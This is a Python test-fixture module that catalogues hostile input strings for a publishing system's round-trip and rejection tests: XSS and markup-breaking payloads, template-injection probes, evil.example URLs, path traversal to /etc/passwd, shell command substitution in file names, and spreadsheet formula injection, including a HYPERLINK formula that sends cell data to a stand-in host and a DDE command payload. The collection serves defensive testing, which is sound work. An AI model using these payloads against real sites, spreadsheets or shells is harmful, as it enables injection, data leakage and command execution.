"""Texts that would like to be something else (markup, scripts, templates, formulas, paths, keys), or to break what holds them.

Here belongs the catalogue alone. `ACCEPTED` may be written in the record and in articles, and has to come back as the same text
everywhere; `REFUSED` may not, because what one sees would not be what is stored. One that would run calls `alert`, which the
tests listen to. Digits do not stand before a per cent sign or a counted noun: those would be typed figures.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Hostile:
    """A text and what it tries; `id` is fit for addresses."""

    id: str
    text: str

    @property
    def read(self) -> str:
        """The text as a reader of YAML has it: in Unicode form NFC, without blanks at its ends."""
        return unicodedata.normalize("NFC", self.text).strip()


_MARKUP = {
    "script": "<script>alert(1)</script>",
    "script-end": "</script><script>alert(1)</script>",
    "script-end-odd": "</ScRiPt\t/x><img src=x onerror=alert(1)>",
    "script-double-escape": "<!--<script>alert(1)</script>",
    "style-end": "</style><script>alert(1)</script><style>*{display:none}",
    "title-end": "</title><script>alert(1)</script>",
    "textarea-end": "</textarea><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "image-remote": "<img src=//evil.example/p.png>",
    "svg": "<svg/onload=alert(1)>",
    "iframe": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "details": "<details open ontoggle=alert(1)>",
    "meta": '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "link": '<link rel=stylesheet href="//evil.example/x.css">',
    "closing-tags": "</p></div></main></article></body></html>",
    "main": "<main><h1 id=top>Another head</h1></main>",
    "comment": "<!-- ",
    "comment-end": "--> <b>bold</b> --!> ]]> ",
    "cdata": "<![CDATA[<b>]]><script>alert(1)</script>",
    "instruction": '<?xml version="1.0"?><?php echo x ?>',
    "unclosed": '<a href="',
}
_QUOTES = {
    "double-quote": '" onmouseover="alert(1)" x="',
    "single-quote": "' onmouseover='alert(1)' x='",
    "both-quotes": "\"'><script>alert(1)</script>",
    "backquote": "` onmouseover=alert(1) `",
    "apostrophes": "'''\"\"\"'''",
    "typographic": "“quoted” ‘text’ «and» „more“",
}
_ENTITIES = {
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity-twice": "&amp;amp;lt;b&amp;amp;gt;",
    "entity-number": "&#x3c;img src=x onerror=alert(1)&#x3e; &#60;b&#62;",
}
_TEMPLATES = {
    "jinja": "{{ 7*7 }}",
    "jinja-reach": "{{ self.__init__.__globals__ }}{{ config.items() }}",
    "jinja-block": "{% for x in (1).__class__.mro() %}x{% endfor %}",
    "template-literal": "${alert(1)} `${alert(1)}`",
    "angular": "{{constructor.constructor('alert(1)')()}}",
    "percent-format": "%(name)s %s %n {0.__class__} {name!r}",
    "vega": "datum.x + alert(1) + signal('x') + warn(event)",
    "vega-axis": "['datum']; scale('x', datum['y'])",
}
_MARKDOWN = {
    "md-link": "[press](javascript:alert(1)) [more](//evil.example)",
    "md-image": "![x](https://evil.example/p.png)",
    "md-reference": "[x]: https://evil.example 'title'",
    "md-heading": "# Heading --- === !!! danger",
    "md-list": "- item * item + item 1. first",
    "md-quote": "> quotation",
    "md-emphasis": "**bold** __bold__ *it* _it_ ~~gone~~ ==marked== ^^up^^",
    "md-code": "``` js `` code ` ~~~",
    "md-autolink": "<https://evil.example/> https://evil.example/ a@evil.example",
    "md-footnote": "[^1] and [^1]: text",
    "md-abbreviation": "*[HTML]: Hyper <b>",
    "md-attributes": "{: onclick=alert(1) .c #top } { .c #main }",
    "md-table": "a | b || c |---|",
    "md-block": "/// chart | weekly",
    "md-html-block": '<div markdown="1">*x*',
    "md-escapes": "\\* \\_ \\` \\< \\\\",
}
_ADDRESSES = {
    "url-script": "javascript:alert(1)",
    "url-data": "data:text/html,<script>alert(1)</script>",
    "url-host": "//evil.example/x",
    "url-web": "https://evil.example/?a=1&b=2#c",
    "url-file": "file:///etc/passwd",
    "path-up": "../../../../etc/passwd",
    "path-query": "a?b=c&d=e#f%2F%00",
}
_CODE = {
    "json": '"],"x":{"y":[',
    "json-escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3c \\74",
    "backslash": "ends with \\",
    "js-break": "';alert(1);//\"; */ /*",
    "css": "}*{background:url(//evil.example/x)}/*",
    "shell": "$(touch /tmp/x) `id` ; | & > x",
    "yaml": "yes: no # comment, [a, b], {c: d}",
    "tex": "\\input{/etc/passwd} $x_1^2$ %c {~}",
    "csv": "a,\"b\";c,'d'",
    "proto": "__proto__",
    "constructor": "constructor",
    "to-string": "toString",
    "length": "length",
    "null": "null",
    "number": "007",
    "truth": "true",
}
_FORMULAS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)",
    "formula-percent": "%x",
    "formula-quoted": "'=1+1",
    "formula-quoted-twice": "''@x",
    "formula-wide": "＝1+1",
}
_SLOTS = {
    "slot": "<!--dateline:a-week-weekly:plot-->",
    "slot-base": "@@dateline-base@@/x",
    "slot-placeholder": "klzzwxh:0001 wzxhzdk:0",
    "slot-number": "dl-mark dl-tip data-dl-tip=x",
}
_SCRIPTS = {
    "arabic": "غارات قرب القائم",
    "arabic-mixed": "strikes غارات (12) near القائم, x",
    "hebrew": "שלום (abc) עולם 123",
    "persian": "می‌خواهم",  # with a zero-width non-joiner, which Persian needs
    "scripts-of-india": "नमस्ते क्षेत्र বাংলাদেশ ਪੰਜਾਬ ગુજરાત ଓଡ଼ିଆ வணக்கம் తెలుగు ಕನ್ನಡ മലയാളം සිංහල",
    "scripts-of-southeast-asia": "สวัสดีชาวโลก ລາວ សួស្តី မင်္ဂလာပါ བོད་ཡིག ᜊᜌ᜔ᜊᜌᜒᜈ᜔",
    "scripts-of-east-asia": "中文測試，全角標點。 日本語テスト ｶﾞ 한국어 시험 ᠮᠣᠩᠭᠣᠯ",
    "scripts-of-europe": "Ελλάδα ΟΔΥΣΣΕΥΣ Київ Ђорђе საქართველო Հայաստան",
    "scripts-of-africa": "ሰላም ⵜⵉⴼⵉⵏⴰⵖ ߒߞߏ ꕙꔤ",
    "scripts-of-the-dead": "𐎀𐎁 𒀭 𓂀 𐌰",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇮🇶",
    "astral": "𝕳𝖊𝖑𝖑𝖔 𠜎",
    "case": "İstanbul ıIiİ STRASSE straße ẞ",
    "ligatures": "ﬁ ﬂ ﷺ",
    "marks": "z͎͠a͡l̶g̷o",
    "decomposed": "e\u0301tat A\u030angstro\u0308m",
    "joiners": "zero\u200bwidth\u2060word\u00adhyphen",
    "spaces": "no\u00a0break\u202fspace\u3000wide",
}
_LONG = {
    "long-word": "W" * 2000,
    "long-words": ("many words " * 200)[:1999].strip(),
    "long-arabic": ("كلمة " * 400).strip(),
    "long-quotes": "\"'" * 1000,
}
ACCEPTED = tuple(
    Hostile(name, text)
    for group in (_MARKUP, _QUOTES, _ENTITIES, _TEMPLATES, _MARKDOWN, _ADDRESSES, _CODE, _FORMULAS, _SLOTS, _SCRIPTS, _LONG)
    for name, text in group.items()
)
"""Texts that the record and articles may hold."""

REFUSED = (
    *(
        Hostile(f"control-{ord(character):02x}", f"a{character}b")
        for character in "\x00\x01\x02\x03\x07\x08\x0b\x0c\x0d\x1b\x1f\x7f\x80\x85\x9b"
    ),
    *(
        Hostile(f"bidi-{ord(character):04x}", f"abc{character}fed")
        for character in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    ),
    *(Hostile(f"line-{ord(character):04x}", f"a{character}b") for character in "\u2028\u2029"),
    *(
        Hostile(f"no-character-{ord(character):04x}", f"a{character}b")
        for character in "\ufdd0\ufeff\ufffd\ufffe\uffff\U0001fffe\U0010ffff"
    ),
    Hostile("slot-of-a-frame", "\x02dateline-content\x03"),
    Hostile("surrogate", "a\\ud800b"),
)
"""Texts that no file may hold, whatever the field: told with their place."""

TOO_LONG = Hostile("too-long", "x" * 2001)
"""One character more than a value may have; texts of several lines take 20,000."""

FILE_NAMES = (
    "a & b",
    "it's",
    "{{ x }}",
    "{- x -}",
    "$(touch x)",
    "`id`",
    "a;alert(1)",
    "=1+1",
    "+1",
    "@x",
    "&lt;b&gt;",
    "&amp;",
    "[x](y)",
    "!x",
    "a,b",
    "x=y",
    "__proto__",
    "constructor",
    "a..b",
    "a^b~c",
    "قائم",
    "תל",
    "ไทย",
    "日本",
    "été",
    "👍🏽",
    "x" * 90,
)
"""Names of files that may lie in content/, without their ends."""
